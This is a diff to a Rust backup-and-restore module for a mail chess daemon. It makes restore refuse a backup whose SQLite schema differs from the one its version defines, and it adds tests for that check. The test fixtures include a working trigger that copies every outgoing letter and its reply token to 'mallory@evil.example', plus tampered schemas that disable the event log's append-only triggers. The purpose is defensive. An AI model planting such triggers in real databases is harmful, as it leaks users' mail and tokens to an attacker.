@@ -1,6 +1,7 @@
 //! Copies of the database through SQLite's online backup API. `pawnpost backup` takes
 //! one consistent snapshot while the daemon and any number of deliveries go on
-//! writing; `pawnpost restore` checks a copy and puts it in the database's place.
+//! writing; `pawnpost restore` checks a copy (its schema exactly the one its version
+//! defines, every game replayed) and puts it in the database's place.
 //! Neither leaves a half-written file where a database is expected: each writes a
 //! temporary file beside its target, syncs it, and renames it into place.
 
@@ -10,7 +11,7 @@ use std::time::{Duration, Instant};
 use rusqlite::backup::{Backup, StepResult};
 use rusqlite::{Connection, OpenFlags};
 
-use super::{DatabaseLock, MIGRATIONS, Store, StoreError};
+use super::{DatabaseLock, MIGRATIONS, Store, StoreError, schema};
 use crate::private_files;
 
 /// How long a backup or restore retries while SQLite reports the source busy (a
@@ -135,6 +136,16 @@ impl PreparedRestore {
             return Err(named(
                 "is not a pawnpost database (it has no games table)".to_owned(),
             ));
+        }
+        // Held against its own version before anything is copied or migrated: a
+        // trigger or view the backup brings would otherwise run in the daemon.
+        let differences = schema::differences(&source, found)?;
+        if !differences.is_empty() {
+            let list: Vec<String> = differences.iter().map(ToString::to_string).collect();
+            return Err(named(format!(
+                "holds a schema pawnpost did not make, so it is not restored: {}",
+                list.join("; ")
+            )));
         }
 
         let file_error = |source| StoreError::File {
@@ -514,6 +525,176 @@ mod tests {
         assert_eq!(files_in(dir.path()), before, "no temporary file left");
         let store = Store::open(&database).unwrap();
         assert_eq!(count_games(&store.conn).unwrap(), 1);
+    }
+
+    /// The outbox columns a trigger of the attack copies: every letter, with its
+    /// reader's reply token, to a stranger.
+    const OUTBOX_COPY: &str = "CREATE TRIGGER outbox_copy AFTER INSERT ON outbox \
+        WHEN NEW.recipient <> 'mallory@evil.example' BEGIN \
+        INSERT INTO outbox (recipient, subject, message_id, raw, next_attempt_at, created_at) \
+        VALUES ('mallory@evil.example', NEW.subject, NEW.message_id || '.copy', NEW.raw, \
+        NEW.next_attempt_at, NEW.created_at); END";
+
+    /// A backup of a database of one game, changed by `sql` afterwards (as an attacker
+    /// with the backup file in hand would), beside a live database of two games.
+    fn tampered_backup(dir: &Path, sql: &str) -> (PathBuf, PathBuf) {
+        let database = dir.join("live/pawnpost.sqlite3");
+        drop(store_with_games(&database, 2));
+        let backup = dir.join("tampered.sqlite3");
+        store_with_games(&dir.join("source.sqlite3"), 1)
+            .backup_to(&backup)
+            .unwrap();
+        Connection::open(&backup)
+            .unwrap()
+            .execute_batch(sql)
+            .unwrap();
+        (database, backup)
+    }
+
+    /// A restore of `backup` over `database` is refused with `expected` in its message,
+    /// and the live database is left as it was: its files, its two games, its schema.
+    fn refused_and_nothing_changed(database: &Path, backup: &Path, expected: &str) {
+        let live_dir = database.parent().unwrap();
+        let before = files_in(live_dir);
+        let lock = DatabaseLock::exclusive(database).unwrap();
+        let error = PreparedRestore::prepare(&lock, backup, database).unwrap_err();
+        let text = error.to_string();
+        assert!(text.contains(expected), "{text}");
+        assert!(text.contains("tampered.sqlite3"), "names the file: {text}");
+        drop(lock);
+        assert_eq!(
+            files_in(live_dir),
+            before,
+            "nothing written beside the database"
+        );
+        let store = Store::open(database).unwrap();
+        assert_eq!(count_games(&store.conn).unwrap(), 2);
+        assert!(store.check_db().unwrap().is_empty(), "its schema untouched");
+    }
+
+    #[test]
+    fn a_restore_refuses_a_backup_with_a_trigger_added_and_names_it() {
+        let dir = tempfile::tempdir().unwrap();
+        let (database, backup) = tampered_backup(dir.path(), OUTBOX_COPY);
+        let version = MIGRATIONS.len();
+        refused_and_nothing_changed(
+            &database,
+            &backup,
+            &format!("trigger outbox_copy is not part of schema version {version}"),
+        );
+    }
+
+    #[test]
+    fn a_restore_refuses_an_extra_index_view_or_table_and_a_changed_or_missing_one() {
+        let version = MIGRATIONS.len();
+        let cases = [
+            (
+                "CREATE INDEX outbox_raw ON outbox (raw)",
+                format!("index outbox_raw is not part of schema version {version}"),
+            ),
+            (
+                "CREATE VIEW letters AS SELECT recipient, raw FROM outbox",
+                format!("view letters is not part of schema version {version}"),
+            ),
+            (
+                "CREATE TABLE stolen (raw BLOB)",
+                format!("table stolen is not part of schema version {version}"),
+            ),
+            (
+                "DROP TRIGGER game_events_append_only_delete",
+                format!(
+                    "trigger game_events_append_only_delete of schema version {version} is missing"
+                ),
+            ),
+            (
+                // The name the schema defines, another body: the event log no longer
+                // refuses a change.
+                "DROP TRIGGER game_events_append_only_update; \
+                 CREATE TRIGGER game_events_append_only_update BEFORE UPDATE ON game_events \
+                 BEGIN SELECT 1; END",
+                format!(
+                    "trigger game_events_append_only_update is not defined as schema version {version} defines it"
+                ),
+            ),
+        ];
+        for (sql, expected) in cases {
+            let dir = tempfile::tempdir().unwrap();
+            let (database, backup) = tampered_backup(dir.path(), sql);
+            refused_and_nothing_changed(&database, &backup, &expected);
+        }
+    }
+
+    /// A database at `version` as the pawnpost of that version left it, with a player.
+    fn database_at_version(path: &Path, version: usize) {
+        let conn = Connection::open(path).unwrap();
+        for sql in &MIGRATIONS[..version] {
+            conn.execute_batch(sql).unwrap();
+        }
+        conn.pragma_update(None, "user_version", version as u32)
+            .unwrap();
+        conn.execute(
+            "INSERT INTO players (address, created_at) VALUES ('anna@example.org', 1)",
+            [],
+        )
+        .unwrap();
+    }
+
+    #[test]
+    fn a_backup_of_an_older_version_is_held_against_that_version_and_brought_forward() {
+        const OLDER: usize = 10;
+        let dir = tempfile::tempdir().unwrap();
+        let database = dir.path().join("live/pawnpost.sqlite3");
+        drop(store_with_games(&database, 2));
+        let backup = dir.path().join("old.sqlite3");
+        database_at_version(&backup, OLDER);
+
+        // Against the latest schema it would lack every later table and column; held
+        // against its own, it is whole, and the restore migrates it.
+        let lock = DatabaseLock::exclusive(&database).unwrap();
+        let prepared = PreparedRestore::prepare(&lock, &backup, &database).unwrap();
+        assert_eq!(prepared.schema_version, MIGRATIONS.len() as u32);
+        prepared.commit().unwrap();
+        drop(lock);
+        let store = Store::open(&database).unwrap();
+        assert_eq!(count_games(&store.conn).unwrap(), 0);
+        assert!(store.check_db().unwrap().is_empty());
+        drop(store);
+
+        // The same older backup with the trigger: refused, naming its own version.
+        let tampered = dir.path().join("tampered.sqlite3");
+        database_at_version(&tampered, OLDER);
+        Connection::open(&tampered)
+            .unwrap()
+            .execute_batch(OUTBOX_COPY)
+            .unwrap();
+        drop(store_with_games(&database, 2));
+        refused_and_nothing_changed(
+            &database,
+            &tampered,
+            &format!("trigger outbox_copy is not part of schema version {OLDER}"),
+        );
+    }
+
+    #[test]
+    fn check_db_names_a_trigger_added_to_the_live_database() {
+        let dir = tempfile::tempdir().unwrap();
+        let database = dir.path().join("db");
+        let store = store_with_games(&database, 1);
+        assert!(store.check_db().unwrap().is_empty());
+        store.conn.execute_batch(OUTBOX_COPY).unwrap();
+        let problems: Vec<String> = store
+            .check_db()
+            .unwrap()
+            .iter()
+            .map(ToString::to_string)
+            .collect();
+        assert_eq!(
+            problems,
+            [format!(
+                "trigger outbox_copy is not part of schema version {}",
+                MIGRATIONS.len()
+            )]
+        );
     }
 
     #[test]
